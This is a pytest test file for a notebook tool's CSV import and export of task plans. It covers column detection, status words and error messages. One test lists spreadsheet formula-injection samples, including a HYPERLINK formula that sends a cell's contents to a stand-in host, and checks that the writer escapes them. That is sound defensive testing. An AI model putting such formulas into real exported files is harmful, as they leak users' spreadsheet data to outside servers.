"""CSV as spreadsheets write it, and what spreadsheets must not do with ours."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from acp_notebook.errors import PlanError
from acp_notebook.plan import Plan, PlanEntry
from acp_notebook.plan.formats import FORMATS, parse, parse_all, write, write_all

PLAN = Plan(
    (PlanEntry("Load", "high", "completed", "1"), PlanEntry("Plot, say", status="in_progress", id="2"))
)


@pytest.mark.parametrize(
    "text",
    [
        'content,priority,status,id\nLoad,high,completed,1\n"Plot, say",medium,in_progress,2\n',
        'id;Status;Task;Prio;Owner\r\n1;Done;Load;HIGH;me\r\n2;In progress;Plot, say;;"a\r\nb"\r\n;;;;\r\n',
        "\n#\tstate\ttitle\tnotes\tImportance\n1\tx\tLoad\t\th\n2\tDOING\tPlot, say\n",
    ],
)
def test_columns_in_any_order_under_common_names(text: str) -> None:
    assert parse(text, "csv") == PLAN == parse("\ufeff" + text, "csv")


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("", "pending"),
        ("To do", "pending"),
        ("Not-Started", "pending"),
        ("FALSE", "pending"),
        ("in_progress", "in_progress"),
        ("Doing", "in_progress"),
        ("TRUE", "completed"),
        (" done ", "completed"),
        ("Canceled", "cancelled"),
        (" Blocked ", "Blocked"),
        ("_done", "_done"),
    ],
)
def test_words_for_a_status(word: str, status: str) -> None:
    assert parse(f"task,done\nLoad,{word}\n", "csv")[0].status == status


def test_the_likeliest_column_has_the_text() -> None:
    assert parse("description,title\nlong,short\n", "csv")[0].content == "short"
    assert parse("name,task\nme,Load\n", "csv")[0].content == "Load"


@pytest.mark.parametrize("text", ["Load\nPlot\n", "Task\nLoad\n\nPlot", '"Load"\r\nPlot\r\n'])
def test_a_list_in_one_column_needs_no_header(text: str) -> None:
    assert [entry.content for entry in parse(text, "csv")] == ["Load", "Plot"]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "Load,done\nPlot,open\n",
            "no column of this CSV has the texts of entries: name its columns content, status, priority, id",
        ),
        (f"task\n{'x' * 200_000}\n", "this CSV cannot be read: field larger than field limit"),
    ],
)
def test_what_is_wrong_with_a_csv_file_is_said_in_one_line(text: str, message: str) -> None:
    with pytest.raises(PlanError) as error:
        parse(text, "csv")
    assert str(error.value).startswith(message)


FORMULAS = ['=HYPERLINK("http://x.y?d="&A1,"open")', "+1 point", "-5 marks", "@all", "\t=1+1", " =1", "＝1"]


def test_md_10_csv_formulas() -> None:
    texts = [*FORMULAS, 'comma, "quote"\nnew line', "über", "'quoted", "'=1", "''=1"]
    plan = Plan(tuple(map(PlanEntry, texts)))
    text = write(plan, "csv")
    assert parse(text, "csv") == plan
    rows = list(csv.reader(StringIO(text, newline="")))
    assert rows[0] == ["content", "status", "priority"]
    assert [row[0] for row in rows[1:8]] == [f"'{text}" for text in FORMULAS]
    assert [row[0] for row in rows[8:]] == [*texts[7:10], "''=1", "'''=1"]
    assert FORMATS["csv"].mark == "\ufeff"  # Excel reads UTF-8 only with it


def test_a_table_has_the_columns_it_needs() -> None:
    plan = Plan((PlanEntry("a", status="done"), PlanEntry("b", id="x")), title="T")
    assert write(plan, "csv") == (
        "plan_title,content,status,priority,id,exact\r\n"
        'T,a,done,medium,,"{""status"": ""done""}"\r\n'
        "T,b,pending,medium,x,\r\n"
    )
    assert parse(write(plan, "csv"), "csv") == plan
    assert parse(write(plan, "csv").replace("done,", "open,"), "csv")[0].status == "pending"


def test_several_plans_in_one_table() -> None:
    plans = (Plan((PlanEntry("a"),), "one"), Plan(plan_id="two", title="Empty"), Plan(plan_id="three"))
    assert write_all(plans, "csv") == (
        "plan,plan_title,content,status,priority\r\none,,a,pending,medium\r\ntwo,Empty,,,\r\nthree,,,,\r\n"
    )
    assert parse_all(write_all(plans, "csv"), "csv") == plans


def test_only_lists_are_tables() -> None:
    with pytest.raises(PlanError, match="a plan of type 'markdown' is no table: use another format"):
        write(Plan(type="markdown", content="x"), "csv")
